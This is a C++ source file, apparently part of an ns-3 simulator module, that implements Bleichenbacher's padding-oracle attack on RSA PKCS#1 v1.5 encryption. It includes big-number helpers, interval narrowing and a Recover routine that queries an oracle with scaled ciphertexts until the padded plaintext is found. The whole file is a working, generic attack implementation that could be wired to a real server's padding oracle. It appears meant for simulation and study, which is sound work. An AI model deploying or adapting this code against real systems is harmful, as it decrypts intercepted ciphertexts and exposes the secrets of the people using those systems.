// SPDX-License-Identifier: GPL-2.0-only
#include "ns3/key-padding-attack.h"

#include <algorithm>
#include <memory>
#include <openssl/bn.h>
#include <utility>
#include <vector>

namespace ns3
{

namespace
{

/** A number of any size. */
class Number
{
  public:
    Number()
        : m_number(BN_new(), BN_free)
    {
    }

    /** @param value its value */
    explicit Number(unsigned long value)
        : Number()
    {
        BN_set_word(Get(), value);
    }

    /** @param octets its value, most significant octet first */
    explicit Number(std::string_view octets)
        : Number()
    {
        BN_bin2bn(reinterpret_cast<const unsigned char*>(octets.data()),
                  static_cast<int>(octets.size()),
                  Get());
    }

    Number(const Number& other)
        : m_number(BN_dup(other.Get()), BN_free)
    {
    }

    Number(Number&&) noexcept = default;

    Number&
    operator=(Number other) noexcept
    {
        std::swap(m_number, other.m_number);
        return *this;
    }

    ~Number() = default;

    /** @return for the library */
    BIGNUM*
    Get() const
    {
        return m_number.get();
    }

    /** @return whether it is less than another */
    bool
    operator<(const Number& other) const
    {
        return BN_cmp(Get(), other.Get()) < 0;
    }

    /** @return whether it equals another */
    bool
    operator==(const Number& other) const
    {
        return BN_cmp(Get(), other.Get()) == 0;
    }

  private:
    std::unique_ptr<BIGNUM, void (*)(BIGNUM*)> m_number; ///< the number
};

/** Computes with numbers, in one place for what it needs to think. */
class Arithmetic
{
  public:
    Arithmetic()
        : m_context(BN_CTX_new(), BN_CTX_free)
    {
    }

    /** @return a + b */
    Number
    Add(const Number& a, const Number& b) const
    {
        Number result;
        BN_add(result.Get(), a.Get(), b.Get());
        return result;
    }

    /** @return a - b */
    Number
    Subtract(const Number& a, const Number& b) const
    {
        Number result;
        BN_sub(result.Get(), a.Get(), b.Get());
        return result;
    }

    /** @return a * b */
    Number
    Multiply(const Number& a, const Number& b) const
    {
        Number result;
        BN_mul(result.Get(), a.Get(), b.Get(), m_context.get());
        return result;
    }

    /** @return a / b, downward */
    Number
    Floor(const Number& a, const Number& b) const
    {
        Number result;
        BN_div(result.Get(), nullptr, a.Get(), b.Get(), m_context.get());
        return result;
    }

    /** @return a / b, upward */
    Number
    Ceiling(const Number& a, const Number& b) const
    {
        return Floor(Subtract(Add(a, b), Number(1)), b);
    }

    /** @return a * (s ^ e) modulo n */
    Number
    Scale(const Number& a, const Number& s, const Number& e, const Number& n) const
    {
        Number power;
        BN_mod_exp(power.Get(), s.Get(), e.Get(), n.Get(), m_context.get());
        Number result;
        BN_mod_mul(result.Get(), a.Get(), power.Get(), n.Get(), m_context.get());
        return result;
    }

  private:
    std::unique_ptr<BN_CTX, void (*)(BN_CTX*)> m_context; ///< for the library
};

using Interval = std::pair<Number, Number>;

/**
 * Step 3 of the paper: what the padded message can be, after it was found that s times it is
 * padded.
 *
 * @param math computes
 * @param before what it could be
 * @param s the factor
 * @param n the modulus
 * @param low least padded message, 2B
 * @param high greatest padded message, 3B - 1
 * @return what it can be
 */
std::vector<Interval>
Narrow(const Arithmetic& math,
       const std::vector<Interval>& before,
       const Number& s,
       const Number& n,
       const Number& low,
       const Number& high)
{
    std::vector<Interval> after;
    for (const auto& [a, b] : before)
    {
        Number r = math.Ceiling(math.Subtract(math.Multiply(a, s), high), n);
        const Number last = math.Floor(math.Subtract(math.Multiply(b, s), low), n);
        for (; !(last < r); r = math.Add(r, Number(1)))
        {
            const Number wraps = math.Multiply(r, n);
            Number from = std::max(a, math.Ceiling(math.Add(low, wraps), s));
            Number to = std::min(b, math.Floor(math.Add(high, wraps), s));
            if (!(to < from))
            {
                after.emplace_back(std::move(from), std::move(to));
            }
        }
    }
    return after;
}

} // namespace

KeyPaddingAttack::KeyPaddingAttack(std::string_view modulus,
                                   std::string_view exponent,
                                   Oracle oracle)
    : m_modulus(modulus)
    , m_exponent(exponent)
    , m_oracle(std::move(oracle))
{
}

uint32_t
KeyPaddingAttack::GetQueryCount() const
{
    return m_queries;
}

std::optional<Octets>
KeyPaddingAttack::Recover(const Octets& encrypted, uint32_t maxQueries)
{
    const Arithmetic math;
    const std::size_t size = m_modulus.size();
    const Number n(m_modulus);
    const Number e(m_exponent);
    const Number c(encrypted);
    if (size < 12 || encrypted.size() != size || !(c < n))
    {
        return std::nullopt;
    }
    Octets bound(size - 1, '\0'); // B = 2^(8(k-2))
    bound[0] = '\1';
    const Number unit(bound);
    const Number low = math.Add(unit, unit);
    const Number high = math.Subtract(math.Add(low, unit), Number(1));
    m_queries = 0;
    const auto isPadded = [&](const Number& factor)
    {
        ++m_queries;
        Octets question(size, '\0');
        BN_bn2binpad(math.Scale(c, factor, e, n).Get(),
                     reinterpret_cast<unsigned char*>(question.data()),
                     static_cast<int>(size));
        return m_oracle(question);
    };
    // Step 1 is not needed: what was overheard is padded. Step 2a begins where s*m may wrap.
    std::vector<Interval> intervals{{low, high}};
    Number s = math.Ceiling(n, math.Add(low, unit));
    while (m_queries < maxQueries && !isPadded(s))
    {
        s = math.Add(s, Number(1));
    }
    intervals = Narrow(math, intervals, s, n, low, high);
    while (m_queries < maxQueries && !intervals.empty())
    {
        if (intervals.size() > 1) // 2b
        {
            do
            {
                s = math.Add(s, Number(1));
            } while (m_queries < maxQueries && !isPadded(s));
        }
        else // 2c
        {
            const auto [a, b] = intervals.front();
            if (a == b)
            {
                Octets found(size, '\0');
                BN_bn2binpad(a.Get(),
                             reinterpret_cast<unsigned char*>(found.data()),
                             static_cast<int>(size));
                const std::size_t end = found.find('\0', 2);
                return end == Octets::npos ? std::nullopt : std::optional(found.substr(end + 1));
            }
            const Number two(2);
            Number r = math.Ceiling(math.Multiply(two, math.Subtract(math.Multiply(b, s), low)), n);
            for (bool isFound = false; !isFound && m_queries < maxQueries;
                 r = math.Add(r, Number(1)))
            {
                const Number wraps = math.Multiply(r, n);
                s = math.Ceiling(math.Add(low, wraps), b);
                const Number end = math.Floor(math.Add(high, wraps), a);
                for (; !(end < s) && m_queries < maxQueries; s = math.Add(s, Number(1)))
                {
                    if (isPadded(s))
                    {
                        isFound = true;
                        break;
                    }
                }
            }
        }
        intervals = Narrow(math, intervals, s, n, low, high);
    }
    return std::nullopt;
}

} // namespace ns3
